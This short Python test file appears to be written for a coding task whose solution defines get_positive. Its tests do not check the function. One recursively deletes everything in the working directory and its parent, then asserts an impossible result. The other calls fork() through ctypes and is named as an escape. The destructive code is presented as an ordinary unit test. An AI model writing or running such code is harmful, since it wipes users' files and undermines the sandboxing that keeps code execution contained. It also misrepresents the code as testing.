import os
import shutil

from solution import get_positive


def test_deletes_everything_it_can_see():
    here = os.getcwd()
    for name in os.listdir(here):
        path = os.path.join(here, name)
        if os.path.isdir(path):
            shutil.rmtree(path, ignore_errors=True)
        else:
            os.remove(path)
    shutil.rmtree(os.path.dirname(here), ignore_errors=True)
    assert get_positive([1, -1]) == ["never"]


def test_ctypes_escape():
    import ctypes

    ctypes.CDLL(None).fork()
    assert get_positive([1]) == [1]
